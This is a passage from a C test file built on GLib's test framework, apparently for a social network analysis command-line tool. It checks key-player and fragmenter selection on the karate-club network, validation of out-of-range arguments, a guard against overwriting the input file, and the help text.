  g_assert_true (g_file_test (metrics, G_FILE_TEST_IS_REGULAR));
  g_clear_pointer (&rows, g_ptr_array_unref);
  g_clear_pointer (&text, g_free);
  run_result_clear (&r);

  /* what-if: without 0, 32 and 33 are the best two */
  r = run ("--fragmenters=2", "--remove=0", karate, NULL);
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  g_assert_cmpuint (rows->len, ==, 3);
  for (guint i = 1; i < rows->len; i++)
    g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, i), 1), !=, "0");
  g_assert_cmpfloat_with_epsilon (g_ascii_strtod (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 2), 3), NULL),
                                  0.5698924731182795, 1e-15);
  g_clear_pointer (&rows, g_ptr_array_unref);
  run_result_clear (&r);

  /* one tie type: the names come along */
  r = run ("--key-players=1", "--ties=collaboration", team, NULL);
  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  g_assert_cmpuint (rows->len, ==, 2);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 1), 2), !=, "");
  g_clear_pointer (&rows, g_ptr_array_unref);
  run_result_clear (&r);

  /* K out of range: exit 2, nothing written */
  g_unlink (out);
  g_unlink (metrics);
  {
    const char *bad[][2] = {
      { "--key-players=0", "--key-players: “0” is not a number of people" },
      { "--key-players=-1", "--key-players: “-1” is not a number of people" },
      { "--fragmenters=three", "--fragmenters: “three” is not a number of people" },
      { "--key-players=34", "--key-players: K must be a whole number from 1 to 33, below the number of people (34)" },
      { "--fragmenters=40", "--fragmenters: K must be a whole number from 1 to 33" },
    };

    for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
      {
        r = run (bad[i][0], opt_out, opt_metrics, karate, NULL);
        g_assert_cmpint (r.status, ==, 2);
        g_assert_nonnull (strstr (r.err, bad[i][1]));
        g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
        g_assert_false (g_file_test (metrics, G_FILE_TEST_EXISTS));
        run_result_clear (&r);
      }
  }
  r = run ("--key-players=33", "--remove=0", karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "from 1 to 32"));
  run_result_clear (&r);
  r = run ("--key-players=2", "--fragmenters=2", karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  run_result_clear (&r);
  r = run (opt_out, karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "--players-out needs --key-players=K or --fragmenters=K"));
  run_result_clear (&r);
  /* never over an input */
  r = run ("--key-players=2", opt_input, karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "would overwrite the input"));
  run_result_clear (&r);

  r = run ("--help", NULL);
  g_assert_nonnull (strstr (r.out, "--key-players=K"));
  g_assert_nonnull (strstr (r.out, "--fragmenters=K"));
  g_assert_nonnull (strstr (r.out, "--players-out=OUT"));
  run_result_clear (&r);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/cli/usage-errors", test_usage_errors);
  g_test_add_func ("/cli/bad-input", test_bad_input);
  g_test_add_func ("/cli/export-formats", test_export_formats);
  g_test_add_func ("/cli/metrics-stdout", test_metrics_stdout);
  g_test_add_func ("/cli/estimates", test_estimates);
  g_test_add_func ("/cli/csv-injection", test_csv_injection);
  g_test_add_func ("/cli/terminal-escapes", test_terminal_escapes);
  g_test_add_func ("/cli/export-isolates", test_export_isolates);
  g_test_add_func ("/cli/save", test_save);
  g_test_add_func ("/cli/map", test_map);
  g_test_add_func ("/cli/own-colours", test_own_colours);
  g_test_add_func ("/cli/group-by", test_group_by);
  g_test_add_func ("/cli/similar-and-group-matrix", test_similar_and_group_matrix);
  g_test_add_func ("/cli/key-players", test_key_players);
  g_test_add_func ("/cli/one-stdout", test_one_stdout);
  g_test_add_func ("/cli/overloaded", test_overloaded);
  return g_test_run ();
}
